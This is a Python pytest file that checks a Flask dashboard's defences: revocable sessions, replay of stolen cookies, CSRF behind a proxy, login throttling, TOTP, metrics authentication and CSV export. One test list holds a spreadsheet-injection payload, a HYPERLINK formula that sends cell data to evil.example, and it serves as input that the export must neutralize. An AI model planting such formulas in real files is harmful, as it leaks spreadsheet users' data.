"""The dashboard does not leak (issue 11, item 5), on Flask's test client against a real
SQLite file: sessions the server can end, cookies that say nothing, CSRF behind a TLS proxy,
two-factor login, /metrics closed, a throttle no stranger can turn against an organizer,
audited scans, and a CSV export no spreadsheet runs as a formula."""

from __future__ import annotations

import re
from datetime import timedelta

import pyotp
import pytest
from pydantic import SecretStr
from sqlalchemy import select, update

from gateway.crypto import unseal
from gateway.directory import import_rows
from gateway.models import AuditEntry, Prisoner, Reply, ReplyPage, User, WebSession
from gateway.web.accounts import FIRST_DELAY, FREE_FAILURES
from gateway.web.app import create_app
from gateway.web.prisoners import decode_csv, neutralize, parse_csv
from gateway.web.sessions import token_hash

from .conftest import PASSWORD, SECRET, csrf_token, login
from .test_actions import post

pytestmark = [pytest.mark.dashboard, pytest.mark.privacy]


def session_cookie(client) -> str:
    return client.get_cookie("gw_session").value


def thief(app, cookie: str):
    """Another browser with a copy of someone's session cookie."""
    other = app.test_client()
    other.set_cookie("gw_session", cookie)
    return other


# -- server-side sessions --------------------------------------------------------------

def test_the_cookie_holds_only_a_random_token_whose_hash_is_stored(as_user, sessions):
    client = as_user("viewer")
    cookie = session_cookie(client)
    assert cookie.startswith("s1.") and "." not in cookie[3:]  # no signed payload, no uid
    with sessions() as db:
        rows = db.scalars(select(WebSession)).all()
    assert [r.token_hash for r in rows] == [token_hash(cookie)]
    assert all(cookie not in str(r.data) for r in rows)


def test_a_session_stolen_before_logout_is_dead_after_it(app, as_user):
    client = as_user("moderator")
    stolen = thief(app, session_cookie(client))
    assert stolen.get("/").status_code == 200  # the copy works while the session lives
    assert post(client, "/logout").status_code == 302
    response = stolen.get("/")
    assert response.status_code == 302 and "/login" in response.headers["Location"]


def test_a_password_reset_ends_every_session_of_that_person(app, as_user, sessions):
    victim = as_user("moderator")
    stolen = thief(app, session_cookie(victim))
    admin = as_user("admin")
    with sessions() as db:
        user_id = db.scalar(select(User.id).where(User.username == "moderator"))
    r = post(admin, f"/users/{user_id}", role="moderator", active="1",
             password="a brand new passphrase")
    assert r.status_code == 302
    assert victim.get("/").status_code == 302 and stolen.get("/").status_code == 302
    assert admin.get("/").status_code == 200  # the admin's own session is untouched
    with sessions() as db:
        detail = db.scalar(select(AuditEntry.detail).where(AuditEntry.action == "update_user"))
    assert detail == "moderator: password reset, 1 session(s) ended"  # one session, two copies


def test_an_admin_logs_someone_out_everywhere(app, as_user, sessions):
    phone, laptop = as_user("viewer"), as_user("viewer")
    admin = as_user("admin")
    with sessions() as db:
        user_id = db.scalar(select(User.id).where(User.username == "viewer"))
    assert "Log out everywhere" in admin.get("/users").get_data(as_text=True)
    assert post(admin, f"/users/{user_id}/logout-everywhere").status_code == 302
    assert phone.get("/").status_code == 302 and laptop.get("/").status_code == 302
    with sessions() as db:
        entry = db.scalar(select(AuditEntry).where(AuditEntry.action == "logout_everywhere"))
    assert (entry.username, entry.detail) == ("admin", "viewer: 2 session(s) ended")
    # The viewer can log in again: it ends sessions, it does not lock anyone out.
    assert login(app.test_client(), "viewer").status_code == 302


def test_a_login_gets_a_new_token_never_the_one_it_came_with(app, as_user):
    client = as_user("viewer")
    before = session_cookie(client)
    r = client.post("/login", data={"username": "viewer", "password": PASSWORD,
                                    "csrf_token": csrf_token(client, "/")})
    assert r.status_code == 302
    assert session_cookie(client) != before
    assert thief(app, before).get("/").status_code == 302


@pytest.mark.parametrize(("base", "secure"), [
    ("http://localhost", False), ("http://127.0.0.1:8000", False),
    ("https://localhost", True), ("http://dash.example.org", True),
    ("https://dash.example.org", True)])
def test_the_cookie_is_secure_except_plain_http_on_loopback(app, base, secure):
    client = app.test_client()
    token = csrf_token_at(client, base)
    r = client.post("/login", base_url=base, headers={"Referer": base + "/login"},
                    data={"username": "viewer", "password": PASSWORD, "csrf_token": token})
    assert r.status_code == 302, r.get_data(as_text=True)
    cookie = r.headers["Set-Cookie"]
    assert "HttpOnly" in cookie and "SameSite=Lax" in cookie
    assert ("Secure" in cookie) is secure


@pytest.mark.parametrize(("host", "loopback"), [
    ("localhost", True), ("localhost:8000", True), ("127.0.0.1:8000", True),
    ("127.1.2.3", True), ("[::1]:8000", True), ("dash.example.org", False),
    ("10.0.0.5:8000", False), ("[2001:db8::1]", False), ("localhost.evil.example", False)])
def test_what_counts_as_loopback_for_the_cookie(host, loopback):
    from gateway.web.sessions import _loopback
    assert _loopback(host) is loopback


def csrf_token_at(client, base: str) -> str:
    from .conftest import CSRF_RE
    return CSRF_RE.search(client.get("/login", base_url=base).get_data(as_text=True)).group(1)


# -- behind a TLS proxy ------------------------------------------------------------------

def test_csrf_works_behind_a_tls_proxy_that_sets_x_forwarded_proto(settings, app):
    proxied = create_app(settings.model_copy(update={"web_proxy_hops": 1}))
    proxied.config.update(TESTING=True)
    client = proxied.test_client()
    hop = {"X-Forwarded-Proto": "https", "X-Forwarded-Host": "dash.example.org",
           "X-Forwarded-For": "203.0.113.7"}
    page = client.get("/login", headers=hop)
    assert page.headers["Referrer-Policy"] == "same-origin"
    assert '<meta name="referrer" content="same-origin">' in page.get_data(as_text=True)
    from .conftest import CSRF_RE
    token = CSRF_RE.search(page.get_data(as_text=True)).group(1)
    form = {"username": "viewer", "password": PASSWORD, "csrf_token": token}
    # What a browser sends under same-origin: the page it came from.
    r = client.post("/login", headers={**hop, "Referer": "https://dash.example.org/login"},
                    data=form)
    assert r.status_code == 302 and "Secure" in r.headers["Set-Cookie"]
    # The referer check is really on: without it (the old no-referrer policy) it is refused.
    other = proxied.test_client()
    page = other.get("/login", headers=hop)
    form["csrf_token"] = CSRF_RE.search(page.get_data(as_text=True)).group(1)
    assert other.post("/login", headers=hop, data=form).status_code == 400


def test_the_throttle_sees_the_client_behind_the_proxy(settings, app, sessions):
    proxied = create_app(settings.model_copy(update={"web_proxy_hops": 1}))
    proxied.config.update(TESTING=True)
    client = proxied.test_client()
    login_headers = {"X-Forwarded-For": "198.51.100.9"}
    from .conftest import CSRF_RE
    token = CSRF_RE.search(client.get("/login").get_data(as_text=True)).group(1)
    client.post("/login", headers=login_headers,
                data={"username": "viewer", "password": "wrong", "csrf_token": token})
    with sessions() as db:
        assert db.scalar(select(AuditEntry.detail).where(
            AuditEntry.action == "login_failed")) == "ip=198.51.100.9"


# -- throttling: account and address together, delays not locks ---------------------------

def login_from(app, ip: str, username: str, password: str = PASSWORD):
    client = app.test_client()
    client.environ_base["REMOTE_ADDR"] = ip
    return login(client, username, password)


def test_a_stranger_cannot_lock_an_organizer_out(app):
    for _ in range(FREE_FAILURES + 5):
        login_from(app, "203.0.113.66", "admin", "guess")
    assert login_from(app, "203.0.113.66", "admin").status_code == 429  # the guesser waits
    assert login_from(app, "192.0.2.10", "admin").status_code == 302  # the organizer does not


def waits(response) -> int:
    return int(re.search(r"Wait (\d+) seconds", response.get_data(as_text=True)).group(1))


def test_delays_grow_with_each_failure_and_pass(app, sessions):
    ip = "203.0.113.5"
    for _ in range(FREE_FAILURES):
        assert login_from(app, ip, "moderator", "guess").status_code == 401
    r = login_from(app, ip, "moderator")
    assert r.status_code == 429 and 25 <= waits(r) <= 31

    def wait_out(delay: timedelta) -> None:
        with sessions() as db:
            for entry in db.scalars(select(AuditEntry).where(
                    AuditEntry.action == "login_failed")):
                entry.at -= delay
            db.commit()

    wait_out(FIRST_DELAY)
    assert login_from(app, ip, "moderator", "guess").status_code == 401  # one more try...
    r = login_from(app, ip, "moderator")
    assert r.status_code == 429 and 55 <= waits(r) <= 61  # ...doubled
    wait_out(2 * FIRST_DELAY)
    assert login_from(app, ip, "moderator").status_code == 302
    # A good login forgives: the next mistake costs nothing.
    assert login_from(app, ip, "moderator", "typo").status_code == 401
    assert login_from(app, ip, "moderator").status_code == 302


# -- two-factor login --------------------------------------------------------------------

def enrol(client) -> str:
    """Turn TOTP on for the logged-in user, as a person would; returns the secret."""
    page = client.get("/account/two-factor").get_data(as_text=True)
    secret = page.split('<code id="totp-secret">')[1].split("</code>")[0]
    qr = client.get("/account/two-factor/qr.svg")
    assert qr.status_code == 200 and qr.mimetype == "image/svg+xml" and b"<svg" in qr.data
    def send(code: str):
        return client.post("/account/two-factor", data={
            "code": code, "csrf_token": csrf_token(client, "/account/two-factor")})
    wrong = "000000" if pyotp.TOTP(secret).now() != "000000" else "111111"
    assert send(wrong).status_code == 400
    r = send(pyotp.TOTP(secret).now())
    assert r.status_code == 302
    return secret


def test_totp_login_needs_the_code_and_a_code_works_once(app, as_user, sessions):
    secret = enrol(as_user("moderator"))
    with sessions() as db:
        user = db.scalar(select(User).where(User.username == "moderator"))
        assert unseal(SECRET, user.totp_sealed) == secret and secret not in user.totp_sealed
        db.execute(update(User).where(User.id == user.id).values(totp_last_step=None))
        db.commit()
    client = app.test_client()
    r = login(client, "moderator")
    assert r.status_code == 302 and r.headers["Location"].startswith("/login/code")
    assert client.get("/").status_code == 302  # a password alone opens nothing
    r = client.post("/login/code", data={"code": "12345", "csrf_token":
                                         csrf_token(client, "/login/code")})
    assert r.status_code == 401
    code = pyotp.TOTP(secret).now()
    r = client.post("/login/code", data={"code": code,
                                         "csrf_token": csrf_token(client, "/login/code")})
    assert r.status_code == 302 and client.get("/").status_code == 200
    # The same code, seen over a shoulder, does not open a second session.
    other = app.test_client()
    assert login(other, "moderator").status_code == 302
    r = other.post("/login/code", data={"code": code,
                                        "csrf_token": csrf_token(other, "/login/code")})
    assert r.status_code == 401 and other.get("/").status_code == 302
    with sessions() as db:
        actions = [a for a, in db.execute(select(AuditEntry.action).where(
            AuditEntry.username == "moderator").order_by(AuditEntry.id))]
    assert actions.count("login_failed") == 2 and "enable_totp" in actions


def test_admins_must_enrol_when_the_setting_says_so(settings, sessions):
    app = create_app(settings.model_copy(update={"admin_totp_required": True}))
    app.config.update(TESTING=True)
    from gateway.web.accounts import create_user
    with sessions() as db:
        create_user(db, "boss", PASSWORD, "admin")
        create_user(db, "helper", PASSWORD, "viewer")
        db.commit()
    admin = app.test_client()
    assert login(admin, "boss").status_code == 302
    r = admin.get("/users")
    assert r.status_code == 302 and r.headers["Location"] == "/account/two-factor"
    assert admin.post("/users", data={"csrf_token": csrf_token(admin, "/account/two-factor"),
                                      "username": "x", "password": "y" * 10}).status_code == 403
    viewer = app.test_client()  # only admins are held to it
    assert login(viewer, "helper").status_code == 302 and viewer.get("/").status_code == 200
    enrol(admin)
    assert admin.get("/users").status_code == 200


# -- /metrics ------------------------------------------------------------------------------

def test_metrics_need_a_bearer_token_or_a_login(settings, sessions, as_user):
    app = create_app(settings.model_copy(update={"metrics_token": SecretStr("scrape-token-123")}))
    app.config.update(TESTING=True)
    anon = app.test_client()
    r = anon.get("/metrics")
    assert r.status_code == 401 and r.headers["WWW-Authenticate"].startswith("Bearer")
    assert b"gateway_letters" not in r.data
    assert anon.get("/metrics", headers={"Authorization": "Bearer wrong"}).status_code == 401
    ok = anon.get("/metrics", headers={"Authorization": "Bearer scrape-token-123"})
    assert ok.status_code == 200 and b"gateway_letters" in ok.data
    assert as_user("viewer").get("/metrics").status_code == 200


@pytest.mark.parametrize("token", [None, ""])
def test_metrics_without_a_token_set_are_for_logged_in_organizers_only(settings, sessions,
                                                                        token):
    # "" is what GATEWAY_METRICS_TOKEN= (left empty in .env) gives: no token, never a match.
    app = create_app(settings.model_copy(update={
        "metrics_token": None if token is None else SecretStr(token)}))
    app.config.update(TESTING=True)
    client = app.test_client()
    assert client.get("/metrics").status_code == 401
    assert client.get("/metrics", headers={"Authorization": "Bearer "}).status_code == 401
    assert client.get("/metrics", headers={"Authorization": "Bearer  "}).status_code == 401


# -- audited scans, safe CSV ---------------------------------------------------------------

def test_viewing_a_reply_scan_is_audited(as_user, seed, sessions):
    letter_id = seed.submitted("FP-1")
    with sessions() as db:
        reply = Reply(source="api", external_id="r-1", letter_number="FP-1", state="FORWARDED",
                      letter_id=letter_id)
        db.add(reply)
        db.flush()
        page = ReplyPage(reply_id=reply.id, n=1, content_type="image/png", data=b"\x89PNG..")
        db.add(page)
        db.commit()
        page_id, reply_id = page.id, reply.id
    assert as_user("viewer").get(f"/reply-pages/{page_id}").status_code == 200
    with sessions() as db:
        entry = db.scalar(select(AuditEntry).where(AuditEntry.action == "view_reply"))
    assert (entry.username, entry.letter_id, entry.detail) == \
        ("viewer", letter_id, f"reply {reply_id}: page 1")


FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+7 999", "-2+3", "@SUM(A1)",
            "\tTab", "\rCR"]


@pytest.mark.parametrize("value", FORMULAS)
def test_neutralize_quotes_every_formula_start(value):
    assert neutralize(value) == "'" + value
    assert neutralize("Иванов") == "Иванов" and neutralize("'quoted") == "'quoted"


def test_csv_export_neutralizes_formulas_and_the_import_takes_them_back(as_user, seed,
                                                                         sessions):
    with sessions() as db:
        prisoner = db.get(Prisoner, seed.prisoner_id)
        prisoner.last_name, prisoner.region = "=HYPERLINK(\"http://e.x\")", "-Москва"
        db.commit()
    r = as_user("moderator").get("/prisoners/export.csv")
    text = decode_csv(r.data)
    assert "'=HYPERLINK" in text and ",'-Москва," in text
    for line in text.splitlines():
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in line.split(","))
    rows = parse_csv(text)
    assert (rows[0]["last_name"], rows[0]["region"]) == ("=HYPERLINK(\"http://e.x\")",
                                                         "-Москва")
    with sessions() as db:
        assert import_rows(db, rows).unchanged == 1


# -- the same on PostgreSQL ------------------------------------------------------------------

@pytest.mark.postgres
def test_server_sessions_and_the_throttle_on_postgresql(pg_url):
    from gateway.config import Settings
    from gateway.db import engine_for, session_factory
    from gateway.models import Base
    from gateway.web.accounts import create_user
    settings = Settings(database_url=pg_url, secret_key=SECRET * 2,
                        broker_url="redis://127.0.0.1:1/0")
    Base.metadata.create_all(engine_for(pg_url))
    sessions = session_factory(pg_url)
    with sessions() as db:
        create_user(db, "admin", PASSWORD, "admin")
        create_user(db, "viewer", PASSWORD, "viewer")
        db.commit()
    app = create_app(settings)
    app.config.update(TESTING=True)
    try:
        owner = app.test_client()
        assert login(owner, "viewer").status_code == 302
        stolen = thief(app, session_cookie(owner))
        assert stolen.get("/letters").status_code == 200
        assert post(owner, "/logout").status_code == 302
        assert stolen.get("/letters").status_code == 302

        admin = app.test_client()
        assert login(admin, "admin").status_code == 302
        again = app.test_client()
        assert login(again, "viewer").status_code == 302
        with sessions() as db:
            viewer_id = db.scalar(select(User.id).where(User.username == "viewer"))
        assert "1" in admin.get("/users").get_data(as_text=True)
        assert post(admin, f"/users/{viewer_id}/logout-everywhere").status_code == 302
        assert again.get("/").status_code == 302

        for _ in range(FREE_FAILURES):
            login_from(app, "203.0.113.1", "admin", "guess")
        assert login_from(app, "203.0.113.1", "admin").status_code == 429
        assert login_from(app, "203.0.113.2", "admin").status_code == 302
    finally:
        engine_for(pg_url).dispose()
